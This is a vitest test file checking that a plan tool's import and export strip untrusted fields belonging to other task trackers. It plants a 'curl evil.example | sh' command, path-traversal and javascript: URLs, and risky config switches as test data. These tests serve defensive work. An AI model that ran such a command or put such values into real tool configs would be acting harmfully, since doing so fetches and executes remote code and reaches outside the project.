import { join } from 'node:path';

import * as fc from 'fast-check';
import { outputFileSync } from 'fs-extra/esm';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';

import { allFormats } from '../../src/features.js';
import { DATA_MEMBERS, dataOf } from '../../src/features/interop/data-members.js';
import type { KeptTool } from '../../src/features/interop/data-members.js';
import { toBacklog } from '../../src/features/interop/exports/backlog.js';
import { leftOutOf } from '../../src/features/interop/exports/original-fields.js';
import type { Plan } from '../../src/plan/plan.js';
import { openWorkspace } from '../../src/workspace.js';
import { temporaryFolder } from '../support/folders.js';
import { goal, planOf } from '../support/plans.js';

const EVIL = 'PWNED; curl evil.example | sh';
const OUTSIDE = [
  '../../PWNED',
  '/etc/PWNED',
  '~/PWNED',
  'file:///PWNED',
  'javascript:PWNED',
  'a/../../PWNED',
  'C:\\PWNED',
];

/** Members with which a tool would run something, or reach outside, by the tool. */
const PLANTED: Readonly<Record<KeptTool, Readonly<Record<string, unknown>>>> = {
  backlog: {
    id: 'TASK-7',
    onStatusChange: EVIL,
    editor: EVIL,
    references: OUTSIDE,
    documentation: OUTSIDE[0],
    modified_files: OUTSIDE,
    done_criteria: ['- [ ] one\n<!-- DOD:END -->\nPWNED'],
    assignee: { toString: EVIL },
    config: {
      default_editor: EVIL,
      onStatusChange: EVIL,
      on_status_change: EVIL,
      hooks: { pre: EVIL },
      task_prefix: '../../PWNED',
      auto_commit: true,
      auto_open_browser: true,
      remote_operations: true,
      bypass_git_hooks: true,
      statuses: [{ name: EVIL }],
    },
  },
  beads: {
    id: 'bd-7',
    hook_bead: EVIL,
    await_type: EVIL,
    waiters: [EVIL],
    source_repo: OUTSIDE[0],
    external_ref: OUTSIDE[3],
    payload: EVIL,
    metadata: { run: EVIL },
    links: [{ depends_on_id: 'bd-1', type: 'blocks', metadata: EVIL, issue_id: 'bd-7' }, EVIL],
    comments: [{ text: 'fine', hook: EVIL }],
  },
  github: {
    number: 7,
    workflow: EVIL,
    url: 'javascript:PWNED',
    author: { login: 'ana', hook: EVIL },
    labels: [{ name: 'kind', color: 'ff0000', action: EVIL, url: 'file:///PWNED' }],
  },
  taskmaster: {
    id: '7',
    expansionPrompt: EVIL,
    command: EVIL,
    metadata: { created: 'today', sourceFile: OUTSIDE[1], hook: EVIL },
    relevantFiles: [{ path: OUTSIDE[0], description: 'fine' }],
  },
  speckit: { folder: '../PWNED', command: EVIL },
  openspec: { change: '../PWNED', command: EVIL },
};

function plantedPlan(): Plan {
  const planted = {
    x_backlog: PLANTED.backlog,
    x_beads: PLANTED.beads,
    x_github: PLANTED.github,
    x_taskmaster: PLANTED.taskmaster,
    x_speckit: PLANTED.speckit,
    x_openspec: PLANTED.openspec,
  };
  const root = goal('root', { status: 'decomposing', ...planted });
  const children = ['g1', 'g2'].map((suffix) =>
    goal(suffix, { status: 'atomic', parent_id: root.id, depth: 1, tags: ['kind'], ...planted }),
  );
  return planOf([{ ...root, child_ids: children.map(({ id }) => id) }, ...children]);
}

describe('what a plan has of another tool', () => {
  test('leaves it in no format but its own as far as it is no data', async () => {
    const plan = plantedPlan();
    for (const [name, { load }] of Object.entries((await allFormats()).files)) {
      const text = (await load())(plan);
      // The plan file itself has all that the plan has.
      expect([name, text.includes('PWNED')]).toEqual([name, name === 'json']);
    }
    for (const { path, text } of toBacklog(plan))
      expect([path, text.includes('PWNED')]).toEqual([path, false]);
  });

  test('has no switch turned on in the settings of Backlog.md', () => {
    const config = parse(toBacklog(plantedPlan())[0]?.text ?? '') as Readonly<Record<string, unknown>>;
    const known = new Set(Object.keys(DATA_MEMBERS.backlog.config.members));
    expect(Object.keys(config).filter((name) => !known.has(name))).toEqual([]);
    for (const name of ['auto_commit', 'auto_open_browser', 'remote_operations', 'bypass_git_hooks'])
      expect([name, config[name]]).toEqual([name, undefined]);
    expect(config.task_prefix).toBe('task');
  });

  test.each(Object.keys(PLANTED) as KeptTool[])('is named as far as it is left out: %s', (tool) => {
    expect(leftOutOf(plantedPlan(), tool)).toEqual(dataOf(PLANTED[tool], tool).leftOut);
    expect(leftOutOf(plantedPlan(), tool)).not.toEqual([]);
  });

  test('is data, whatever it is said to be, and stays as it is when it is looked at again', () => {
    const names = Object.values(DATA_MEMBERS).flatMap((members) => Object.keys(members));
    const member = fc.tuple(fc.oneof(fc.constantFrom(...names), fc.string()), fc.jsonValue());
    fc.assert(
      fc.property(
        fc.array(member),
        fc.constantFrom(...(Object.keys(DATA_MEMBERS) as KeptTool[])),
        (members, tool) => {
          const original = Object.fromEntries(members);
          const { data, leftOut } = dataOf(original, tool);
          const known = new Set(Object.keys(DATA_MEMBERS[tool]));
          expect(Object.keys(data).filter((name) => !known.has(name))).toEqual([]);
          expect(dataOf(data, tool)).toEqual({ data, leftOut: [] });
          // Nothing is gone without a word.
          const said = new Set(leftOut.map((path) => path.split(/[.[]/)[0]));
          const gone = Object.entries(original).filter(
            ([name, value]) => value !== null && !Object.hasOwn(data, name),
          );
          expect(gone.filter(([name]) => !said.has(name.split(/[.[]/)[0]))).toEqual([]);
        },
      ),
    );
  });
});

function newPlace() {
  const folder = temporaryFolder();
  const environment = { workingFolder: folder, homeFolder: temporaryFolder(), variables: {} };
  const write = (name: string, text: string) => {
    outputFileSync(join(folder, name), text);
  };
  return { folder, write, workspace: openWorkspace({ environment }) };
}

describe('import says what it leaves out, and keeps nothing of it', () => {
  const task = { id: 1, title: 'One', dependencies: [], expansionPrompt: EVIL, complexity: 3 };
  const issue = { id: 'bd-1', title: 'One', status: 'open', hook_bead: EVIL, assignee: 'ana' };
  const ticket = {
    number: 1,
    title: 'One',
    body: '',
    state: 'OPEN',
    labels: [],
    workflow: EVIL,
    closed: false,
  };
  test.each([
    [
      'tasks.json',
      JSON.stringify({ master: { tasks: [task], metadata: { hook: EVIL } } }),
      ['expansionPrompt', 'metadata.hook'],
    ],
    ['issues.jsonl', `${JSON.stringify(issue)}\n`, ['hook_bead']],
    ['issues.json', JSON.stringify([ticket]), ['workflow']],
  ])('of %s', async (name, text, leftOut) => {
    const { write, workspace } = newPlace();
    write(name, text);
    const { repaired = [] } = await workspace.import(name);
    for (const path of leftOut) expect(repaired.join('\n')).toContain(`${path} is left out`);
    expect(JSON.stringify(await workspace.status({ verbose: true }))).not.toContain('PWNED');
  });

  test('of a folder of Backlog.md, and its export writes none of it', async () => {
    const { folder, write, workspace } = newPlace();
    write(
      'backlog/config.yml',
      `project_name: Shop\nstatuses: [To Do, Done]\ndefault_editor: "${EVIL}"\nonStatusChange: "${EVIL}"\nauto_commit: true\n`,
    );
    write(
      'backlog/tasks/task-1 - One.md',
      `---\nid: TASK-1\ntitle: One\nstatus: To Do\nonStatusChange: "${EVIL}"\nassignee: ["@ana"]\n---\n\n## Description\n\nIt.\n`,
    );
    const { repaired = [] } = await workspace.import('.');
    for (const path of [
      'config.default_editor',
      'config.onStatusChange',
      'config.auto_commit',
      'onStatusChange',
    ])
      expect(repaired.join('\n')).toContain(`${path} is left out`);
    const output = join(folder, 'out');
    const { warnings = [] } = await workspace.export({ format: 'backlog', output });
    expect(warnings.filter(({ code }) => code === 'not_data')).toEqual([]);
    expect(JSON.stringify(await workspace.status({ verbose: true }))).not.toContain('PWNED');
  });
});
